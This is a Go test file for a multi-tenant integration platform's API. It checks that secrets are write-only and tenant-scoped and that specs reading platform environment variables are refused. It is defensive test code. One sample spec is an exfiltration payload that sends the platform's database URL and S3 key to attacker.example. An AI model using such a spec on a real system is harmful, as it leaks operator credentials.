package api

import (
	"context"
	"log/slog"
	"net/http"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/require"

	"github.com/vrsky/vrsky/connectors/sdk"
	"github.com/vrsky/vrsky/internal/secretbox"
	"github.com/vrsky/vrsky/internal/store"
	"github.com/vrsky/vrsky/internal/tenancy"
	"github.com/vrsky/vrsky/internal/testenv"
)

// secretsEnv is the API with tenant secrets and the operator's allow-list
// of environment variables; tenants are created in the store.
type secretsEnv struct {
	*authEnv
	mirror *tenancy.SecretsKV
}

func newSecretsEnv(t *testing.T, keys *secretbox.KeyRing, envAllow ...string) *secretsEnv {
	t.Helper()
	pool, err := pgxpool.New(context.Background(), testenv.PostgresMigrated(t))
	require.NoError(t, err)
	t.Cleanup(pool.Close)
	st := store.New(pool)
	_, js := testenv.JetStream(t)
	mirror, err := tenancy.OpenSecretsKV(context.Background(), js, keys)
	require.NoError(t, err)
	platform := &tenancy.Platform{EnvAllow: envAllow}
	logs := &syncBuffer{}
	srv := New(Options{
		Gatherer: prometheus.NewRegistry(), Logger: slog.New(slog.NewJSONHandler(logs, nil)), Auth: st, Store: st,
		TenantEnvAllowed: platform.EnvAllowed, SecretKeys: keys, SecretMirror: mirror,
	})
	return &secretsEnv{authEnv: &authEnv{noControl: true, h: srv.Handler(), st: st, pool: pool, logs: logs}, mirror: mirror}
}

func newKeys(t *testing.T) *secretbox.KeyRing {
	t.Helper()
	keys, err := secretbox.Parse(secretbox.GenerateKey())
	require.NoError(t, err)
	return keys
}

// platformEnvSpec reads two of the platform's own variables: its database
// URL and its S3 secret key.
const platformEnvSpec = `{
	"name": "exfiltrate",
	"consumer": {"connector": "http-webhook", "config": {"signature": {"scheme": "github", "secret": {"env": "VRSKY_S3_SECRET_KEY"}}}},
	"producers": {
		"leak": {"connector": "http", "config": {"url": "https://attacker.example/collect", "secretHeaders": {"X-Loot": {"env": "VRSKY_DATABASE_URL"}}}},
		"db": {"connector": "postgres", "config": {"url": {"env": "SHOP_DATABASE_URL"}, "table": "orders"}}
	}
}`

// Attack: a tenant writes {env: VRSKY_DATABASE_URL} (and another platform
// variable) into a spec to have the runner send it to a URL of its
// choosing. The API refuses the spec when it is applied, naming each field
// and variable and why; variables the operator allow-listed still pass.
func TestSpecReadingThePlatformEnvironmentIsRefused(t *testing.T) {
	t.Setenv("VRSKY_DATABASE_URL", "postgres://vrsky:platform-password@db/vrsky")
	t.Setenv("VRSKY_S3_SECRET_KEY", "platform-s3-secret")
	e := newSecretsEnv(t, newKeys(t), "SHOP_*")
	key, _ := activeTenant(t, e.st, "evil")

	for _, attempt := range []struct{ method, path string }{
		{http.MethodPost, "/v1/integrations"},
		{http.MethodPut, "/v1/integrations/exfiltrate"},
	} {
		if attempt.method == http.MethodPut {
			// An innocent first version, then the attack as an update.
			innocent := strings.NewReplacer(`{"env": "VRSKY_S3_SECRET_KEY"}`, `{"secret": "hook"}`,
				`{"env": "VRSKY_DATABASE_URL"}`, `{"secret": "loot"}`).Replace(platformEnvSpec)
			res := call(t, e.h, http.MethodPost, "/v1/integrations", key, innocent)
			require.Equal(t, http.StatusCreated, res.code, res.raw)
		}
		res := call(t, e.h, attempt.method, attempt.path, key, platformEnvSpec)
		requireProblem(t, res, http.StatusUnprocessableEntity)
		require.Equal(t, []string{"body.consumer.config.signature.secret", "body.producers.leak.config.secretHeaders.X-Loot"},
			problemLocations(res), "the allow-listed SHOP_DATABASE_URL passes")
		errs := res.body["errors"].([]any)
		for i, name := range []string{"VRSKY_S3_SECRET_KEY", "VRSKY_DATABASE_URL"} {
			msg := errs[i].(map[string]any)["message"].(string)
			require.Contains(t, msg, `{"env": "`+name+`"} is refused`)
			require.Contains(t, msg, "VRSKY_TENANT_ENV_ALLOW")
			require.Contains(t, msg, "/v1/secrets")
		}
		require.NotContains(t, res.raw, "platform-password")
		require.NotContains(t, res.raw, "platform-s3-secret")
	}
	// Nothing of the attack was stored.
	res := call(t, e.h, http.MethodGet, "/v1/integrations/exfiltrate/versions", key, "")
	require.Equal(t, http.StatusOK, res.code, res.raw)
	require.Len(t, res.body["items"], 1)
	require.NotContains(t, res.raw, "VRSKY_DATABASE_URL")
}

// With no allow-list, the default, no {env: NAME} passes at all.
func TestNoEnvironmentVariableIsAllowedByDefault(t *testing.T) {
	t.Parallel()
	e := newSecretsEnv(t, newKeys(t))
	key, _ := activeTenant(t, e.st, "acme")
	res := call(t, e.h, http.MethodPost, "/v1/integrations", key, platformEnvSpec)
	requireProblem(t, res, http.StatusUnprocessableEntity)
	require.Equal(t, []string{"body.consumer.config.signature.secret", "body.producers.db.config.url", "body.producers.leak.config.secretHeaders.X-Loot"},
		problemLocations(res))
}

func TestSecretsAreWriteOnlyAndTenantScoped(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := newSecretsEnv(t, newKeys(t))
	keyA, _ := activeTenant(t, e.st, "tenant-a")
	keyB, _ := activeTenant(t, e.st, "tenant-b")
	const value = "xoxb-tenant-a-token"

	res := call(t, e.h, http.MethodPut, "/v1/secrets/slack.token", keyA, `{"value":"`+value+`"}`)
	require.Equal(t, http.StatusCreated, res.code, res.raw)
	require.Equal(t, "slack.token", res.body["name"])
	require.EqualValues(t, 1, res.body["version"])
	require.NotContains(t, res.raw, value)
	res = call(t, e.h, http.MethodPut, "/v1/secrets/slack.token", keyA, `{"value":"`+value+`-2"}`)
	require.Equal(t, http.StatusOK, res.code, res.raw)
	require.EqualValues(t, 2, res.body["version"])

	res = call(t, e.h, http.MethodGet, "/v1/secrets", keyA, "")
	require.Equal(t, http.StatusOK, res.code, res.raw)
	items := res.body["items"].([]any)
	require.Len(t, items, 1)
	item := items[0].(map[string]any)
	require.Equal(t, "slack.token", item["name"])
	require.EqualValues(t, 2, item["version"])
	require.NotEmpty(t, item["created_at"])
	require.NotEmpty(t, item["updated_at"])
	require.NotContains(t, res.raw, value)
	require.NotContains(t, res.raw, "key_id")

	// The runners' mirror resolves it for tenant A only.
	got, err := sdk.Secret{Secret: "slack.token"}.Resolve(ctx, sdk.Env{Tenant: "tenant-a", Secrets: e.mirror.Resolver("tenant-a")})
	require.NoError(t, err)
	require.Equal(t, value+"-2", got)
	_, err = sdk.Secret{Secret: "slack.token"}.Resolve(ctx, sdk.Env{Tenant: "tenant-b", Secrets: e.mirror.Resolver("tenant-b")})
	require.ErrorIs(t, err, tenancy.ErrSecretNotFound)

	// Tenant B sees none of A's secrets, and cannot delete them (404).
	res = call(t, e.h, http.MethodGet, "/v1/secrets", keyB, "")
	require.Equal(t, http.StatusOK, res.code, res.raw)
	require.Empty(t, res.body["items"])
	requireProblem(t, call(t, e.h, http.MethodDelete, "/v1/secrets/slack.token", keyB, ""), http.StatusNotFound)
	// B's own secret of the same name is B's.
	res = call(t, e.h, http.MethodPut, "/v1/secrets/slack.token", keyB, `{"value":"b-token"}`)
	require.Equal(t, http.StatusCreated, res.code, res.raw)
	got, err = e.mirror.Resolver("tenant-a")(ctx, "slack.token")
	require.NoError(t, err)
	require.Equal(t, value+"-2", got)

	// Bad names, empty and oversize values.
	for _, name := range []string{"a..b", "1abc", "a.", "a*b", strings.Repeat("a", 129)} {
		res = call(t, e.h, http.MethodPut, "/v1/secrets/"+name, keyA, `{"value":"x"}`)
		require.GreaterOrEqual(t, res.code, 400, name)
		require.Less(t, res.code, 500, name)
	}
	requireProblem(t, call(t, e.h, http.MethodPut, "/v1/secrets/ok", keyA, `{"value":""}`), http.StatusUnprocessableEntity)
	requireProblem(t, call(t, e.h, http.MethodPut, "/v1/secrets/ok", keyA, `{"value":"x","tenant_id":"tenant-b"}`), http.StatusUnprocessableEntity)
	big := call(t, e.h, http.MethodPut, "/v1/secrets/ok", keyA, `{"value":"`+strings.Repeat("x", MaxSecretBytes+1)+`"}`)
	require.Contains(t, []int{http.StatusRequestEntityTooLarge, http.StatusUnprocessableEntity}, big.code)

	// A read-only key lists but cannot write.
	reader, _ := e.createKey(t, keyA, `["read"]`)
	requireProblem(t, call(t, e.h, http.MethodPut, "/v1/secrets/other", reader, `{"value":"x"}`), http.StatusForbidden)
	requireProblem(t, call(t, e.h, http.MethodDelete, "/v1/secrets/slack.token", reader, ""), http.StatusForbidden)
	require.Equal(t, http.StatusOK, call(t, e.h, http.MethodGet, "/v1/secrets", reader, "").code)

	// Delete: gone from the listing and from the runners' mirror.
	res = call(t, e.h, http.MethodDelete, "/v1/secrets/slack.token", keyA, "")
	require.Equal(t, http.StatusNoContent, res.code, res.raw)
	requireProblem(t, call(t, e.h, http.MethodDelete, "/v1/secrets/slack.token", keyA, ""), http.StatusNotFound)
	requireProblem(t, call(t, e.h, http.MethodDelete, "/v1/secrets/a..b", keyA, ""), http.StatusNotFound)
	_, err = e.mirror.Resolver("tenant-a")(ctx, "slack.token")
	require.ErrorIs(t, err, tenancy.ErrSecretNotFound)
	res = call(t, e.h, http.MethodGet, "/v1/secrets", keyA, "")
	require.Empty(t, res.body["items"])

	// No value ever reached the logs.
	require.NotContains(t, e.logs.String(), value)
	require.NotContains(t, e.logs.String(), "b-token")
}

func TestSecretsNeedAKeyToBeWritten(t *testing.T) {
	t.Parallel()
	e := newSecretsEnv(t, nil)
	key, _ := activeTenant(t, e.st, "acme")
	res := call(t, e.h, http.MethodPut, "/v1/secrets/token", key, `{"value":"x"}`)
	requireProblem(t, res, http.StatusServiceUnavailable)
	require.Contains(t, res.body["detail"], "VRSKY_SECRETS_KEY")
	require.Equal(t, http.StatusOK, call(t, e.h, http.MethodGet, "/v1/secrets", key, "").code)
	requireProblem(t, call(t, e.h, http.MethodDelete, "/v1/secrets/token", key, ""), http.StatusNotFound)
}
